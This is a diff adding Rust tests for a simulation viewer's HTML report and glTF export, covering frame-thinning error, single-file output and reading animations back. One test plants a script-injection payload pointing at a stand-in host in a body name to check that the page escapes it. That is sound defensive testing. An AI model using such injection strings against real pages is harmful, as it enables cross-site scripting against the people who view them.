@@ -1,0 +1,130 @@
+//! Files for others: `report.html` and glTF.
+
+mod common;
+
+use common::{compiled, request, scene, shipped};
+use sarrus::analysis::simulate;
+use sarrus_view::motion::Motion;
+use sarrus_view::{Scene, Table, gltf, report};
+
+fn simulated(name: &str, t_end: f64, every: f64) -> (Scene, Motion, std::sync::Arc<sarrus::system::System>) {
+    let (model, system) = shipped(name);
+    let request = request(t_end, every);
+    let outcome = simulate(&model, &system, &request, &mut ()).unwrap();
+    let (mut scene, _) = scene(&model, &system, &request);
+    scene.set_report(serde_json::to_value(&outcome.report).unwrap());
+    let motion = Motion::from_columns(&system.directory, Table::from(&outcome.trajectory)).unwrap();
+    (scene, motion, system)
+}
+
+/// The error that the page states is the one there is, by another way of interpolating: positions only, by hand.
+#[test]
+fn a_page_has_fewer_frames_and_says_what_that_costs() {
+    let (scene, motion, system) = simulated("four_bar", 1.0, 1e-3);
+    let (thin, few) = report::thinned(scene, &system.directory, &motion);
+    let said = thin.thinning.unwrap();
+    assert_eq!((said.kept, said.of), (few.table.len(), motion.table.len()));
+    assert!(said.kept < said.of / 2, "{said:?}");
+    assert!(
+        said.position <= 2.5e-4 * motion.size() && said.angle <= 1e-3 && said.columns <= 2e-3,
+        "{said:?}"
+    );
+
+    let mut worst = 0.0_f64;
+    for (row, t) in motion.table.t.iter().enumerate() {
+        let after = few.table.t.partition_point(|x| x < t).clamp(1, few.table.len() - 1);
+        let (t0, t1) = (few.table.t[after - 1], few.table.t[after]);
+        let u = (t - t0) / (t1 - t0);
+        for body in 0..motion.bodies {
+            let at = |m: &Motion, row: usize, k: usize| f64::from(m.poses[(row * m.bodies + body) * 7 + k]);
+            let apart = (0..3)
+                .map(|k| {
+                    ((1.0 - u) * at(&few, after - 1, k) + u * at(&few, after, k) - at(&motion, row, k))
+                        .powi(2)
+                })
+                .sum::<f64>();
+            worst = worst.max(apart.sqrt());
+        }
+    }
+    assert!((worst - said.position).abs() <= 1e-6 * motion.size(), "{worst} is not {said:?}");
+}
+
+#[test]
+fn a_page_is_one_file_without_a_way_out() {
+    let (mut scene, motion, system) = simulated("four_bar", 0.2, 1e-3);
+    scene.bodies[0].name = "</script><script src=\"http://evil.example/x.js\">".into();
+    let html = report::html(&[report::thinned(scene, &system.directory, &motion)]);
+    assert!(html.starts_with("<!doctype html>") || html.starts_with("<!DOCTYPE html>"));
+    assert!(html.contains("Content-Security-Policy"));
+    assert!(html.len() < 6 << 20, "{} bytes", html.len());
+    let low = html.to_ascii_lowercase();
+    assert!(
+        !low.contains("<script src") && !low.contains("<link") && !low.contains("@import"),
+        "the page refers to something outside"
+    );
+    assert!(!html.contains("evil.example/x.js\">"));
+    if let Some(at) = html.find("id=\"sarrus-data\">") {
+        let json = &html[at + "id=\"sarrus-data\">".len()..];
+        let json = &json[..json.find("</script>").unwrap()];
+        let data: serde_json::Value = serde_json::from_str(json).unwrap();
+        assert_eq!(data["format"], "sarrus-view/1");
+        assert_eq!(data["runs"][0]["scene"]["report"]["status"], "completed");
+        assert!(data["runs"][0]["frames"].as_str().unwrap().len() > 1000);
+    }
+}
+
+/// Read back with another program's library.
+#[test]
+fn an_animation_comes_back_from_its_file() {
+    for name in ["four_bar", "governor", "beam_pendulum"] {
+        let (scene, motion, _) = simulated(name, 0.1, 2e-3);
+        let (document, buffers) = {
+            let file = ::gltf::Gltf::from_slice(&gltf::binary(&scene, &motion))
+                .unwrap_or_else(|e| panic!("{name}: {e}"));
+            let blob = file.blob.clone().expect("a binary chunk");
+            (file.document, [blob])
+        };
+        let nodes: Vec<String> = document.nodes().filter_map(|n| n.name().map(str::to_string)).collect();
+        assert!(scene.bodies.iter().all(|body| nodes.contains(&body.name)), "{name}");
+        let animation = document.animations().next().expect("an animation");
+        assert_eq!(animation.channels().count(), 2 * scene.bodies.len(), "{name}");
+        let mut drawn = 0;
+        for primitive in document.meshes().flat_map(|mesh| mesh.primitives().collect::<Vec<_>>()) {
+            let reader = primitive.reader(|buffer| Some(&buffers[buffer.index()]));
+            let vertices = reader.read_positions().expect("positions").count();
+            assert!(reader.read_indices().expect("indices").into_u32().all(|i| (i as usize) < vertices));
+            drawn += vertices;
+        }
+        assert!(drawn > 0, "{name}");
+        for (i, channel) in animation.channels().enumerate() {
+            let reader = channel.reader(|buffer| Some(&buffers[buffer.index()]));
+            let times: Vec<f32> = reader.read_inputs().expect("times").collect();
+            assert!(times.windows(2).all(|pair| pair[0] < pair[1]) && times[0] == 0.0, "{name}");
+            let last = motion.table.len() - 1;
+            let pose = &motion.poses[(last * motion.bodies + i / 2) * 7..][..7];
+            match reader.read_outputs().expect("outputs") {
+                ::gltf::animation::util::ReadOutputs::Translations(all) => {
+                    let all: Vec<[f32; 3]> = all.collect();
+                    assert_eq!((all.len(), &all.last().unwrap()[..]), (times.len(), &pose[..3]), "{name}");
+                }
+                ::gltf::animation::util::ReadOutputs::Rotations(all) => {
+                    let last = all.into_f32().last().unwrap();
+                    let dot = last[3] * pose[3] + last[0] * pose[4] + last[1] * pose[5] + last[2] * pose[6];
+                    assert!((dot.abs() - 1.0).abs() < 1e-5, "{name}: {dot}");
+                }
+                _ => panic!("{name}: an unknown track"),
+            }
+        }
+    }
+}
+
+#[test]
+fn a_column_that_is_missing_is_named() {
+    let text = "format = 'sarrus/1'\nspace = 'planar'\n[bodies]\na = { from = [0, 0], to = [1, 0], mass = 1 }\n\
+                b = { from = [1, 0], to = [2, 0], mass = 1 }\n[run]\nt_end = 0.1\n";
+    let (_, system) = compiled("two", text);
+    let table = Table { names: vec!["a.x".into(), "a.y".into()], ..Table::default() };
+    let missing = Motion::from_columns(&system.directory, table).unwrap_err();
+    assert_eq!((missing.column.as_str(), missing.body.as_str(), missing.bodies), ("a.angle", "a", 2));
+    assert!(missing.to_string().contains("nor can one other body"), "{missing}");
+}
